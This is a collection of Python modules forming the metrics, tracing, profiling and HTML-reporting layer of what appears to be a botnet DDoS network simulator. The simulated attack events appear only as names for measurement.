        self.inc(-amount)

    def set_function(self, fn: Callable[[], float]) -> None:
        self.fn = fn

    @property
    def value(self) -> float:
        if self.fn is not None:
            return float(self.fn())
        return self._value


class Histogram:
    """Fixed-bucket histogram (cumulative counts, Prometheus-style)."""

    __slots__ = ("name", "label_key", "buckets", "bucket_counts", "count", "sum")

    def __init__(self, name: str, label_key: str = "",
                 buckets: Tuple[float, ...] = DEFAULT_BUCKETS):
        self.name = name
        self.label_key = label_key
        self.buckets = tuple(sorted(buckets))
        self.bucket_counts = [0] * (len(self.buckets) + 1)  # +1 = +Inf
        self.count = 0
        self.sum = 0.0

    def observe(self, value: float) -> None:
        self.bucket_counts[bisect.bisect_left(self.buckets, value)] += 1
        self.count += 1
        self.sum += value

    def bucket_dict(self) -> Dict[str, int]:
        """Cumulative ``{le: count}`` mapping (ending with "+Inf")."""
        out: Dict[str, int] = {}
        cumulative = 0
        for bound, n in zip(self.buckets, self.bucket_counts):
            cumulative += n
            out[f"{bound:g}"] = cumulative
        out["+Inf"] = self.count
        return out

    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0


class NullInstrument:
    """Shared no-op stand-in for every instrument kind.

    One attribute-less method call per update — the price instrumented
    hot paths pay when observability is off.
    """

    __slots__ = ()

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def set_function(self, fn) -> None:
        pass

    def observe(self, value: float) -> None:
        pass

    def labels(self, *values: str):
        return self

    @property
    def value(self) -> float:
        return 0.0


NULL_INSTRUMENT = NullInstrument()

_KIND_FACTORIES = {
    "counter": Counter,
    "gauge": Gauge,
    "histogram": Histogram,
}


class MetricFamily:
    """All children of one metric name, keyed by label values."""

    __slots__ = ("name", "kind", "help", "label_names", "children", "_kwargs")

    def __init__(self, name: str, kind: str, help: str = "",
                 label_names: Tuple[str, ...] = (), **kwargs):
        self.name = name
        self.kind = kind
        self.help = help
        self.label_names = tuple(label_names)
        self.children: Dict[str, object] = {}
        self._kwargs = kwargs

    def labels(self, *values: str):
        """The child instrument for one label-value combination."""
        if len(values) != len(self.label_names):
            raise ValueError(
                f"{self.name}: expected {len(self.label_names)} label values "
                f"{self.label_names}, got {values!r}"
            )
        key = _label_key(self.label_names, tuple(str(v) for v in values))
        child = self.children.get(key)
        if child is None:
            child = _KIND_FACTORIES[self.kind](self.name, key, **self._kwargs)
            self.children[key] = child
        return child


class MetricsRegistry:
    """Owns every metric family of one simulation run."""

    def __init__(self) -> None:
        self.families: Dict[str, MetricFamily] = {}

    # ------------------------------------------------------------------
    # Registration (idempotent per name; kind conflicts are errors)
    # ------------------------------------------------------------------
    def _family(self, name: str, kind: str, help: str,
                label_names: Iterable[str], **kwargs) -> MetricFamily:
        family = self.families.get(name)
        if family is not None:
            if family.kind != kind:
                raise ValueError(
                    f"metric {name!r} already registered as {family.kind}, "
                    f"cannot re-register as {kind}"
                )
            return family
        family = MetricFamily(name, kind, help, tuple(label_names), **kwargs)
        self.families[name] = family
        return family

    def counter(self, name: str, help: str = "",
                labels: Iterable[str] = ()):
        """A counter (unlabeled) or counter family (with ``labels``)."""
        family = self._family(name, "counter", help, labels)
        return family if family.label_names else family.labels()

    def gauge(self, name: str, help: str = "", labels: Iterable[str] = (),
              fn: Optional[Callable[[], float]] = None):
        """A gauge; ``fn`` makes the unlabeled child a callback gauge."""
        family = self._family(name, "gauge", help, labels)
        if family.label_names:
            return family
        gauge = family.labels()
        if fn is not None:
            gauge.set_function(fn)
        return gauge

    def histogram(self, name: str, help: str = "", labels: Iterable[str] = (),
                  buckets: Tuple[float, ...] = DEFAULT_BUCKETS):
        family = self._family(name, "histogram", help, labels, buckets=buckets)
        return family if family.label_names else family.labels()

    # ------------------------------------------------------------------
    # Reads
    # ------------------------------------------------------------------
    def value(self, name: str, label_key: str = "") -> float:
        """Current value of one counter/gauge child (0.0 if absent)."""
        family = self.families.get(name)
        if family is None:
            return 0.0
        child = family.children.get(label_key)
        if child is None:
            return 0.0
        return child.value if not isinstance(child, Histogram) else child.count

    # ------------------------------------------------------------------
    # Export
    # ------------------------------------------------------------------
    def snapshot(self) -> Dict[str, Dict]:
        """Everything, as ``{kind: {name: {label_key: value-ish}}}``."""
        out: Dict[str, Dict] = {"counters": {}, "gauges": {}, "histograms": {}}
        for name, family in sorted(self.families.items()):
            if family.kind == "counter":
                out["counters"][name] = {
                    key: child.value for key, child in sorted(family.children.items())
                }
            elif family.kind == "gauge":
                out["gauges"][name] = {
                    key: child.value for key, child in sorted(family.children.items())
                }
            else:
                out["histograms"][name] = {
                    key: {
                        "count": child.count,
                        "sum": child.sum,
                        "mean": child.mean(),
                        "buckets": child.bucket_dict(),
                    }
                    for key, child in sorted(family.children.items())
                }
        return out

    @staticmethod
    def delta(before: Dict[str, Dict], after: Dict[str, Dict]) -> Dict[str, Dict]:
        """Counter/histogram-count differences between two snapshots.

        Gauges are point-in-time and carry over from ``after`` unchanged.
        """
        out: Dict[str, Dict] = {"counters": {}, "gauges": {}, "histograms": {}}
        for name, children in after.get("counters", {}).items():
            prior = before.get("counters", {}).get(name, {})
            out["counters"][name] = {
                key: value - prior.get(key, 0.0) for key, value in children.items()
            }
        out["gauges"] = dict(after.get("gauges", {}))
        for name, children in after.get("histograms", {}).items():
            prior = before.get("histograms", {}).get(name, {})
            out["histograms"][name] = {
                key: {
                    "count": stats["count"] - prior.get(key, {}).get("count", 0),
                    "sum": stats["sum"] - prior.get(key, {}).get("sum", 0.0),
                }
                for key, stats in children.items()
            }
        return out

    def to_json(self, indent: Optional[int] = 2) -> str:
        return json.dumps(self.snapshot(), indent=indent, sort_keys=True)

    def to_csv(self) -> str:
        """Flat rows: ``kind,name,labels,field,value`` (one per scalar)."""
        lines = ["kind,name,labels,field,value"]
        snapshot = self.snapshot()
        for kind in ("counters", "gauges"):
            for name, children in snapshot[kind].items():
                for key, value in children.items():
                    lines.append(f"{kind[:-1]},{name},{key},value,{value:g}")
        for name, children in snapshot["histograms"].items():
            for key, stats in children.items():
                lines.append(f"histogram,{name},{key},count,{stats['count']}")
                lines.append(f"histogram,{name},{key},sum,{stats['sum']:g}")
        return "\n".join(lines) + "\n"


class NullRegistry:
    """Registry stand-in: hands out no-op instruments, exports nothing."""

    def counter(self, name: str, help: str = "", labels: Iterable[str] = ()):
        return NULL_INSTRUMENT

    def gauge(self, name: str, help: str = "", labels: Iterable[str] = (),
              fn=None):
        return NULL_INSTRUMENT

    def histogram(self, name: str, help: str = "", labels: Iterable[str] = (),
                  buckets: Tuple[float, ...] = DEFAULT_BUCKETS):
        return NULL_INSTRUMENT

    def value(self, name: str, label_key: str = "") -> float:
        return 0.0

    def snapshot(self) -> Dict[str, Dict]:
        return {"counters": {}, "gauges": {}, "histograms": {}}


NULL_REGISTRY = NullRegistry()
