"""repro.obs — the unified observability layer.

Three instruments, one facade:

* :mod:`repro.obs.metrics` — a metrics registry (:class:`Counter`,
  :class:`Gauge`, :class:`Histogram`, labeled families) with
  snapshot/delta export to dict/JSON/CSV;
* :mod:`repro.obs.trace` — a structured event tracer (bounded per-type
  ring buffers of typed events stamped with virtual + wall time) with
  JSONL and Chrome ``trace_event`` exporters;
* :mod:`repro.obs.profiler` — a scheduler profiler aggregating wall time
  and fire counts per callback site;
* :mod:`repro.obs.spans` — causal span tracking with deterministic IDs,
  reconstructing the recruitment-and-attack tree of a run;
* :mod:`repro.obs.recorder` — an always-on bounded flight recorder
  force-dumped on faults, crashes, and sweep-worker death;
* :mod:`repro.obs.report` — self-contained HTML reports and NetFlow-style
  flow exports (``repro report``).

:class:`Observatory` bundles them and rides on the simulator
(``sim.obs``), so every layer — scheduler, queues, links, TCP,
containers, C&C, exploits, churn — reports into one place.  The default
is :data:`NULL_OBSERVATORY`: a no-op shell that keeps uninstrumented
runs at seed-engine speed.
"""

from repro.obs.metrics import (
    Counter,
    DEFAULT_BUCKETS,
    Gauge,
    Histogram,
    MetricsRegistry,
    NULL_INSTRUMENT,
    NULL_REGISTRY,
    NullInstrument,
    NullRegistry,
)
from repro.obs.observatory import NULL_OBSERVATORY, NullObservatory, Observatory
from repro.obs.profiler import SchedulerProfiler, site_of
from repro.obs.recorder import FlightRecorder, NULL_RECORDER, NullRecorder
from repro.obs.report import flows_jsonl, render_run_report, render_sweep_report
from repro.obs.spans import (
    NULL_SPANS,
    NullSpans,
    Span,
    SpanTracker,
    canonical_spans_run,
)
from repro.obs.trace import EventTracer, NULL_TRACER, NullTracer, TraceEvent

__all__ = [
    "Counter",
    "DEFAULT_BUCKETS",
    "EventTracer",
    "FlightRecorder",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NULL_INSTRUMENT",
    "NULL_OBSERVATORY",
    "NULL_RECORDER",
    "NULL_REGISTRY",
    "NULL_SPANS",
    "NULL_TRACER",
    "NullInstrument",
    "NullObservatory",
    "NullRecorder",
    "NullRegistry",
    "NullSpans",
    "NullTracer",
    "Observatory",
    "SchedulerProfiler",
    "Span",
    "SpanTracker",
    "TraceEvent",
    "canonical_spans_run",
    "flows_jsonl",
    "render_run_report",
    "render_sweep_report",
    "site_of",
]
