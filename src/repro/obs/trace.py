"""Structured event tracing: typed events in bounded ring buffers.

The paper's pitch is real-time analysis "at any stage" of a botnet DDoS
attack; the tracer is the substrate for that.  Instrumented layers emit
typed events — ``sched.fire``, ``link.tx``, ``queue.drop``,
``tcp.retransmit``, ``container.spawn``, ``cnc.recruit``,
``exploit.attempt``/``exploit.success``, ``churn.down``/``churn.up`` —
each stamped with the virtual clock *and* the wall clock.

Buffering is a ring **per event type**: a flood run emits millions of
``sched.fire``/``link.tx`` events, and a single shared ring would evict
the handful of ``cnc.recruit`` records long before export.  Per-type
rings keep the rare, high-value events alongside a bounded tail of the
chatty ones; evictions are counted, never silent.

When tracing is off the hot path pays exactly one attribute check::

    if tracer.enabled:
        tracer.emit("queue.drop", sim.now, queue=self.name)

because the default tracer everywhere is the shared :data:`NULL_TRACER`.
"""

from __future__ import annotations

import json
import time
from collections import deque
from typing import Deque, Dict, Iterable, List, Optional


class TraceEvent:
    """One typed event: name, virtual time, wall time, free-form fields."""

    __slots__ = ("name", "t", "wall", "fields")

    def __init__(self, name: str, t: float, wall: float, fields: dict):
        self.name = name
        self.t = t
        self.wall = wall
        self.fields = fields

    def to_dict(self) -> dict:
        out = {"event": self.name, "t": self.t, "wall": self.wall}
        out.update(self.fields)
        return out

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<TraceEvent {self.name} t={self.t:.6f} {self.fields}>"


class EventTracer:
    """Collects :class:`TraceEvent` records in per-type ring buffers."""

    enabled = True

    def __init__(self, capacity_per_type: int = 65536):
        if capacity_per_type <= 0:
            raise ValueError("ring capacity must be positive")
        self.capacity_per_type = capacity_per_type
        self._rings: Dict[str, Deque[TraceEvent]] = {}
        self.evicted: Dict[str, int] = {}
        self.emitted: Dict[str, int] = {}
        # Intentional wall-clock read: the tracer *records* wall time
        # alongside virtual time; it never feeds the simulation.
        self._wall_start = time.perf_counter()  # simlint: disable=SIM101

    # ------------------------------------------------------------------
    # Emission (hot path when enabled)
    # ------------------------------------------------------------------
    def emit(self, name: str, t: float, **fields) -> None:
        """Record one event at virtual time ``t``."""
        ring = self._rings.get(name)
        if ring is None:
            ring = deque(maxlen=self.capacity_per_type)
            self._rings[name] = ring
            self.evicted[name] = 0
            self.emitted[name] = 0
        if len(ring) == self.capacity_per_type:
            self.evicted[name] += 1
        self.emitted[name] += 1
        wall = time.perf_counter() - self._wall_start  # simlint: disable=SIM101
        ring.append(TraceEvent(name, t, wall, fields))

    # ------------------------------------------------------------------
    # Reads
    # ------------------------------------------------------------------
    def events(self, name: Optional[str] = None) -> List[TraceEvent]:
        """Buffered events (one type, or all types merged by time)."""
        if name is not None:
            return list(self._rings.get(name, ()))
        merged: List[TraceEvent] = []
        for ring in self._rings.values():
            merged.extend(ring)
        merged.sort(key=lambda event: (event.t, event.wall))
        return merged

    def event_types(self) -> List[str]:
        return sorted(self._rings)

    def counts(self) -> Dict[str, int]:
        """Events *emitted* per type (including evicted ones)."""
        return dict(self.emitted)

    def __len__(self) -> int:
        return sum(len(ring) for ring in self._rings.values())

    def clear(self) -> None:
        self._rings.clear()
        self.evicted.clear()
        self.emitted.clear()

    # ------------------------------------------------------------------
    # Export
    # ------------------------------------------------------------------
    def eviction_summary(self) -> Optional[dict]:
        """Self-describing truncation record, or None when nothing was
        evicted.  ``evicted`` maps event type -> count of records the
        ring dropped; exports lead with this so a sliced trace is never
        mistaken for a complete one."""
        evicted = {name: count for name, count in self.evicted.items() if count}
        if not evicted:
            return None
        return {
            "event": "trace.evictions",
            "capacity_per_type": self.capacity_per_type,
            "evicted": dict(sorted(evicted.items())),
            "total_evicted": sum(evicted.values()),
        }

    def to_jsonl(
        self,
        names: Optional[Iterable[str]] = None,
        since: Optional[float] = None,
        limit: Optional[int] = None,
    ) -> str:
        """One JSON object per line, time-ordered.

        ``names`` keeps only those event types, ``since`` drops events
        before that virtual time, ``limit`` keeps only the *newest* N
        matching events — so a multi-gigabyte flood trace can be sliced
        without materializing all of it downstream.  When the rings
        themselves evicted records, the first line is a
        ``trace.evictions`` summary making the truncation explicit.
        """
        wanted = set(names) if names is not None else None
        selected = [
            event for event in self.events()
            if (wanted is None or event.name in wanted)
            and (since is None or event.t >= since)
        ]
        if limit is not None and limit >= 0:
            selected = selected[max(0, len(selected) - limit):]
        lines = [
            json.dumps(event.to_dict(), sort_keys=True, default=str)
            for event in selected
        ]
        summary = self.eviction_summary()
        if summary is not None:
            lines.insert(0, json.dumps(summary, sort_keys=True))
        return "\n".join(lines) + ("\n" if lines else "")

    def to_chrome_json(self, indent: Optional[int] = None) -> str:
        """Chrome ``trace_event`` JSON: load via chrome://tracing or Perfetto.

        Virtual seconds map to trace microseconds; each event type gets
        its own thread lane so the timeline reads as one row per
        subsystem signal.
        """
        tids = {name: tid for tid, name in enumerate(self.event_types(), start=1)}
        trace_events = [
            {
                "name": event.name,
                "cat": event.name.split(".", 1)[0],
                "ph": "i",
                "s": "t",
                "ts": round(event.t * 1e6, 3),
                "pid": 1,
                "tid": tids[event.name],
                "args": {key: str(value) if not isinstance(value, (int, float, bool))
                         else value
                         for key, value in event.fields.items()},
            }
            for event in self.events()
        ]
        metadata = [
            {
                "name": "thread_name",
                "ph": "M",
                "pid": 1,
                "tid": tid,
                "args": {"name": name},
            }
            for name, tid in tids.items()
        ]
        other_data = {"clock": "virtual-time", "source": "repro.obs"}
        summary = self.eviction_summary()
        if summary is not None:
            other_data["evicted"] = summary["evicted"]
            other_data["total_evicted"] = summary["total_evicted"]
        document = {
            "traceEvents": metadata + trace_events,
            "displayTimeUnit": "ms",
            "otherData": other_data,
        }
        return json.dumps(document, indent=indent)


class NullTracer:
    """Disabled tracer: ``enabled`` is False and every method is a no-op."""

    enabled = False

    def emit(self, name: str, t: float, **fields) -> None:
        pass

    def events(self, name: Optional[str] = None) -> List[TraceEvent]:
        return []

    def event_types(self) -> List[str]:
        return []

    def counts(self) -> Dict[str, int]:
        return {}

    def __len__(self) -> int:
        return 0

    def clear(self) -> None:
        pass

    def eviction_summary(self) -> Optional[dict]:
        return None

    def to_jsonl(
        self,
        names: Optional[Iterable[str]] = None,
        since: Optional[float] = None,
        limit: Optional[int] = None,
    ) -> str:
        return ""

    def to_chrome_json(self, indent: Optional[int] = None) -> str:
        return json.dumps({"traceEvents": [], "displayTimeUnit": "ms"})


NULL_TRACER = NullTracer()
