"""Self-contained HTML reports over one run or a whole sweep.

``repro report`` renders everything the observability stack collected —
result summary, causal span timeline, the reconstructed
recruitment-and-attack tree, received-rate sparkline, fault markers and
flight-recorder dumps — into a single HTML file with **no external
assets**: inline CSS, inline SVG, zero JavaScript.  The file opens from
disk on an air-gapped machine and attaches to a bug report whole.

The module renders only; it never runs a simulation.  The CLI wires it
to a fresh instrumented run (``repro report``) or a cached sweep
(``repro report --figure2``), and :func:`flows_jsonl` serialises
TServer-side flow aggregates into the NetFlow-style JSONL that
``repro.analysis.features.capture_records_from_flows`` reads back.
"""

from __future__ import annotations

import html
import json
from typing import Dict, List, Optional, Sequence

_CSS = """
body { font-family: -apple-system, 'Segoe UI', sans-serif; margin: 2em auto;
       max-width: 60em; color: #1a1a2e; }
h1 { border-bottom: 2px solid #16213e; padding-bottom: .3em; }
h2 { margin-top: 1.6em; color: #16213e; }
table { border-collapse: collapse; margin: .8em 0; }
th, td { border: 1px solid #cbd5e1; padding: .25em .6em; text-align: left;
         font-size: .9em; }
th { background: #eef2f7; }
.timeline { position: relative; border-left: 1px solid #cbd5e1; }
.lane { position: relative; height: 1.2em; margin: 2px 0; }
.bar { position: absolute; height: 1em; background: #4f6fa5; border-radius: 2px;
       color: #fff; font-size: .65em; overflow: hidden; white-space: nowrap;
       padding: 0 .3em; min-width: 2px; }
.bar.failed { background: #b5483b; }
.fault-marker { position: absolute; top: 0; bottom: 0; width: 2px;
                background: #d1495b; }
.tree ul { list-style: none; border-left: 1px dotted #94a3b8;
           margin: 0 0 0 .6em; padding-left: .9em; }
.tree > ul { border-left: none; margin-left: 0; padding-left: 0; }
.tree li { margin: .15em 0; font-size: .9em; }
.kind { font-weight: 600; color: #16213e; }
.meta { color: #64748b; font-size: .85em; }
.status-failed, .status-crashed, .status-timeout { color: #b5483b; }
pre { background: #f1f5f9; padding: .8em; overflow-x: auto; font-size: .8em; }
svg { display: block; margin: .5em 0; }
"""

#: timeline rendering cap — a flood run can end tens of thousands of
#: spans; the report keeps the first N by start time and says so.
MAX_TIMELINE_SPANS = 400


def _escape(value: object) -> str:
    return html.escape(str(value), quote=True)


def _sparkline(values: Sequence[float], width: int = 560, height: int = 64,
               label: str = "") -> str:
    """Inline SVG polyline over ``values`` (empty series → empty note)."""
    points = [float(v) for v in values]
    if not points:
        return "<p class='meta'>(no data)</p>"
    peak = max(points) or 1.0
    step = width / max(len(points) - 1, 1)
    coords = " ".join(
        f"{index * step:.1f},{height - (value / peak) * (height - 4):.1f}"
        for index, value in enumerate(points)
    )
    title = _escape(label) if label else "series"
    return (
        f"<svg width='{width}' height='{height}' role='img' "
        f"aria-label='{title}'>"
        f"<polyline points='{coords}' fill='none' stroke='#4f6fa5' "
        f"stroke-width='1.5'/>"
        f"<text x='2' y='12' font-size='10' fill='#64748b'>"
        f"{title} (peak {peak:.1f})</text>"
        f"</svg>"
    )


def _summary_table(row: Dict[str, object]) -> str:
    cells = "".join(
        f"<tr><th>{_escape(key)}</th><td>{_escape(value)}</td></tr>"
        for key, value in row.items()
    )
    return f"<table>{cells}</table>"


def _rows_table(rows: Sequence[Dict[str, object]]) -> str:
    if not rows:
        return "<p class='meta'>(no rows)</p>"
    columns = list(rows[0].keys())
    head = "".join(f"<th>{_escape(column)}</th>" for column in columns)
    body = "".join(
        "<tr>" + "".join(
            f"<td>{_escape(row.get(column, ''))}</td>" for column in columns
        ) + "</tr>"
        for row in rows
    )
    return f"<table><tr>{head}</tr>{body}</table>"


def _timeline(span_dicts: Sequence[dict], fault_times: Sequence[float],
              t_end: float) -> str:
    """Percentage-positioned span bars over ``[0, t_end]``, one lane per
    span, fault-injection instants as red markers."""
    if not span_dicts:
        return "<p class='meta'>(no spans recorded — run with spans enabled)</p>"
    horizon = max(t_end, 1e-9)
    shown = span_dicts[:MAX_TIMELINE_SPANS]
    lanes = []
    for span in shown:
        start = float(span.get("t_start", 0.0))
        end = float(span.get("t_end") or start)
        left = 100.0 * start / horizon
        width = max(100.0 * (end - start) / horizon, 0.15)
        status = str(span.get("status", "ok"))
        failed = " failed" if status not in ("ok", "hijacked", "infected",
                                             "sent", "leaked") else ""
        label = f"{span.get('kind')} {span.get('entity', '')} [{status}]"
        markers = "".join(
            f"<div class='fault-marker' title='fault at t={t:.1f}' "
            f"style='left:{100.0 * t / horizon:.2f}%'></div>"
            for t in fault_times
        )
        lanes.append(
            f"<div class='lane'>{markers}"
            f"<div class='bar{failed}' style='left:{left:.2f}%;"
            f"width:{width:.2f}%' title='{_escape(label)} "
            f"t={start:.2f}..{end:.2f}'>{_escape(label)}</div></div>"
        )
    note = ""
    if len(span_dicts) > len(shown):
        note = (f"<p class='meta'>showing {len(shown)} of "
                f"{len(span_dicts)} spans (earliest first)</p>")
    return f"<div class='timeline'>{''.join(lanes)}</div>{note}"


def _tree_html(nodes: Sequence[dict]) -> str:
    """Nested <ul> over :meth:`SpanTracker.tree` output."""
    if not nodes:
        return ""
    items = []
    for node in nodes:
        status = str(node.get("status", "ok"))
        detail = []
        for key in ("packets_delivered", "bytes_delivered", "packets_dropped"):
            if node.get(key):
                detail.append(f"{key.split('_')[1]} {key.split('_')[0]}"
                              f"={node[key]}")
        meta = f" <span class='meta'>{_escape(', '.join(detail))}</span>" if detail else ""
        items.append(
            f"<li><span class='kind'>{_escape(node.get('kind'))}</span> "
            f"{_escape(node.get('entity', ''))} "
            f"<span class='status-{_escape(status)}'>[{_escape(status)}]</span>"
            f"{meta}{_tree_html(node.get('children', ()))}</li>"
        )
    return f"<ul>{''.join(items)}</ul>"


def _dump_sections(recorder) -> str:
    if recorder is None or not getattr(recorder, "dumps", None):
        return "<p class='meta'>(no flight-recorder dumps — nothing crashed)</p>"
    return "".join(
        f"<pre>{_escape(recorder.format_dump(record))}</pre>"
        for record in recorder.dumps
    )


def _page(title: str, sections: Sequence[str]) -> str:
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'>"
        f"<title>{_escape(title)}</title><style>{_CSS}</style></head>"
        f"<body><h1>{_escape(title)}</h1>{''.join(sections)}</body></html>"
    )


def render_run_report(
    result,
    spans=None,
    tracer=None,
    recorder=None,
    title: str = "DDoSim run report",
) -> str:
    """One run → one self-contained HTML page.

    ``result`` is the run's :class:`repro.core.results.RunResult`;
    ``spans``/``tracer``/``recorder`` are the matching observatory parts
    (each optional — missing layers render as a note, not an error).
    """
    span_dicts = spans.to_dicts() if spans is not None and spans.enabled else []
    fault_times: List[float] = []
    fault_rows: List[Dict[str, object]] = []
    if tracer is not None and tracer.enabled:
        for event in tracer.events("fault.inject"):
            fault_times.append(event.t)
            fault_rows.append({"t": round(event.t, 2), **event.fields})
    t_end = max(
        [float(result.sim_end_time)]
        + [float(s.get("t_end") or 0.0) for s in span_dicts]
    )
    sections = [
        "<h2>Summary</h2>", _summary_table(result.row()),
        "<h2>Received rate (kbps, per second of attack)</h2>",
        _sparkline(result.rate_series_kbps, label="received kbps"),
        "<h2>Span timeline</h2>", _timeline(span_dicts, fault_times, t_end),
        "<h2>Recruitment and attack tree</h2>",
        ("<div class='tree'>" + (_tree_html(spans.tree()) or
         "<p class='meta'>(no spans)</p>") + "</div>")
        if spans is not None and spans.enabled
        else "<p class='meta'>(no spans recorded)</p>",
        "<h2>Fault injections</h2>",
        _rows_table(fault_rows) if fault_rows
        else "<p class='meta'>(none)</p>",
        "<h2>Flight-recorder dumps</h2>", _dump_sections(recorder),
    ]
    return _page(title, sections)


def render_sweep_report(
    rows: Sequence[Dict[str, object]],
    title: str = "DDoSim sweep report",
    telemetry_summary: Optional[Dict[str, object]] = None,
) -> str:
    """A sweep's row dicts → one self-contained HTML page: the full
    table plus a sparkline per numeric column (trend at a glance)."""
    sections = ["<h2>Rows</h2>", _rows_table(rows)]
    if rows:
        numeric = [
            column for column in rows[0]
            if all(isinstance(row.get(column), (int, float)) and
                   not isinstance(row.get(column), bool) for row in rows)
        ]
        if numeric:
            sections.append("<h2>Trends</h2>")
            for column in numeric:
                sections.append(
                    _sparkline([row[column] for row in rows], label=column)
                )
    if telemetry_summary:
        sections.append("<h2>Sweep execution</h2>")
        sections.append(_summary_table(telemetry_summary))
    return _page(title, sections)


def flows_jsonl(records: Sequence[dict]) -> str:
    """Flow records (:meth:`repro.netsim.sink.PacketSink.flow_records`)
    as NetFlow-style JSONL — one sorted-key JSON object per line."""
    return "\n".join(
        json.dumps(record, sort_keys=True, default=str) for record in records
    )
