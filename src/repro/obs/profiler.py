"""Scheduler profiler: wall-time and fire-count per callback site.

The ROADMAP's scaling goal lives or dies on the event loop — flood runs
push millions of events through :class:`repro.netsim.simulator.Simulator`
— so the first question of every perf PR is "which callbacks burn the
wall clock?".  The profiler answers it by aggregating, per callback
*site* (module-qualified function name), how often it fired and how much
wall time it consumed, plus loop-level aggregates: events/sec and the
heap-depth high-water mark.

It only runs when attached (the simulator switches to an instrumented
loop); the unprofiled loop is byte-for-byte the seed hot path.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional


class SiteStats:
    """Aggregate for one callback site."""

    __slots__ = ("site", "fires", "wall_seconds")

    def __init__(self, site: str):
        self.site = site
        self.fires = 0
        self.wall_seconds = 0.0

    def mean_us(self) -> float:
        return self.wall_seconds / self.fires * 1e6 if self.fires else 0.0


def site_of(callback) -> str:
    """Stable site key for a scheduled callback (module.qualname)."""
    qualname = getattr(callback, "__qualname__", None)
    if qualname is None:
        return type(callback).__name__
    module = getattr(callback, "__module__", "") or ""
    return f"{module.rsplit('.', 1)[-1]}.{qualname}" if module else qualname


class SchedulerProfiler:
    """Aggregates per-site timings across one or more ``run()`` calls."""

    def __init__(self) -> None:
        self.sites: Dict[str, SiteStats] = {}
        self.events = 0
        self.wall_seconds = 0.0
        self.heap_high_water = 0
        self._started_at: Optional[float] = None

    # ------------------------------------------------------------------
    # Recording (called from the simulator's instrumented loop)
    # ------------------------------------------------------------------
    def start_run(self) -> None:
        # Intentional wall-clock reads throughout: the profiler's whole
        # job is measuring host wall time; nothing here feeds sim state.
        if self._started_at is None:
            self._started_at = time.perf_counter()  # simlint: disable=SIM101

    def record(self, callback, wall_dt: float) -> None:
        key = site_of(callback)
        stats = self.sites.get(key)
        if stats is None:
            stats = SiteStats(key)
            self.sites[key] = stats
        stats.fires += 1
        stats.wall_seconds += wall_dt
        self.events += 1
        self.wall_seconds += wall_dt

    def observe_heap_depth(self, depth: int) -> None:
        if depth > self.heap_high_water:
            self.heap_high_water = depth

    # ------------------------------------------------------------------
    # Reads
    # ------------------------------------------------------------------
    def events_per_sec(self) -> float:
        """Events dispatched per wall second of callback execution."""
        if self._started_at is not None:
            elapsed = time.perf_counter() - self._started_at  # simlint: disable=SIM101
            if elapsed > 0:
                return self.events / elapsed
        return self.events / self.wall_seconds if self.wall_seconds else 0.0

    def table(self, limit: Optional[int] = None) -> List[dict]:
        """Hot sites sorted by total wall time, heaviest first."""
        rows = [
            {
                "site": stats.site,
                "fires": stats.fires,
                "wall_seconds": stats.wall_seconds,
                "mean_us": stats.mean_us(),
            }
            for stats in self.sites.values()
        ]
        rows.sort(key=lambda row: row["wall_seconds"], reverse=True)
        return rows[:limit] if limit is not None else rows

    def snapshot(self) -> dict:
        return {
            "events": self.events,
            "wall_seconds": self.wall_seconds,
            "events_per_sec": self.events_per_sec(),
            "heap_high_water": self.heap_high_water,
            "sites": self.table(),
        }

    def format_table(self, limit: int = 15) -> str:
        """Human-readable hot-path report for the CLI."""
        lines = [
            f"{'site':<48} {'fires':>10} {'wall s':>10} {'mean µs':>10}",
            "-" * 80,
        ]
        for row in self.table(limit):
            lines.append(
                f"{row['site']:<48.48} {row['fires']:>10d} "
                f"{row['wall_seconds']:>10.4f} {row['mean_us']:>10.2f}"
            )
        lines.append(
            f"total: {self.events} events, {self.wall_seconds:.3f} s in callbacks, "
            f"{self.events_per_sec():,.0f} events/s, "
            f"heap high-water {self.heap_high_water}"
        )
        return "\n".join(lines)
