"""The Observatory: one object bundling registry + tracer + profiler.

Every :class:`repro.netsim.simulator.Simulator` carries an observatory
(``sim.obs``); instrumented layers reach it through their simulator
reference, so wiring the whole stack is a single
``sim.attach_observatory(...)`` call.  The default is
:data:`NULL_OBSERVATORY` — null registry, null tracer, no profiler —
which keeps the uninstrumented hot path identical to the seed engine.

``Observatory()`` (the :class:`DDoSim` default) carries a *real* registry
but a null tracer: callback gauges and low-rate counters work, telemetry
sources from the registry, and per-event tracing/profiling stays off.
It also always carries a :class:`repro.obs.recorder.FlightRecorder` —
the recorder only sees low-rate landmark notes, so it is cheap enough
to be always-on and post-mortems never start blank.
``Observatory.full()`` turns everything on (tracer, profiler, causal
span tracking) for trace/metrics export runs.
"""

from __future__ import annotations

from typing import Optional

from repro.obs.metrics import MetricsRegistry, NULL_REGISTRY, NullRegistry
from repro.obs.profiler import SchedulerProfiler
from repro.obs.recorder import FlightRecorder, NULL_RECORDER
from repro.obs.spans import NULL_SPANS, SpanTracker
from repro.obs.trace import EventTracer, NULL_TRACER


class Observatory:
    """Aggregation point for one simulation's measurement instruments."""

    def __init__(
        self,
        metrics: Optional[MetricsRegistry] = None,
        tracer=None,
        profiler: Optional[SchedulerProfiler] = None,
        spans=None,
        recorder=None,
    ):
        self.metrics = metrics if metrics is not None else MetricsRegistry()
        self.tracer = tracer if tracer is not None else NULL_TRACER
        self.profiler = profiler
        self.spans = spans if spans is not None else NULL_SPANS
        # Always-on by default; pass NULL_RECORDER explicitly to disable.
        self.recorder = recorder if recorder is not None else FlightRecorder()
        if self.recorder.enabled and self.recorder.metrics is None \
                and not isinstance(self.metrics, NullRegistry):
            self.recorder.metrics = self.metrics
        if self.spans.enabled and self.spans.recorder is None \
                and self.recorder.enabled:
            self.spans.recorder = self.recorder

    @classmethod
    def full(cls, trace_capacity: int = 65536,
             span_capacity: int = 1_000_000) -> "Observatory":
        """Everything on: registry + tracer + profiler + span tracking."""
        return cls(
            metrics=MetricsRegistry(),
            tracer=EventTracer(capacity_per_type=trace_capacity),
            profiler=SchedulerProfiler(),
            spans=SpanTracker(max_spans=span_capacity),
        )

    @property
    def instrumented(self) -> bool:
        """True when the simulator must run its instrumented loop."""
        return self.profiler is not None or self.tracer.enabled

    # ------------------------------------------------------------------
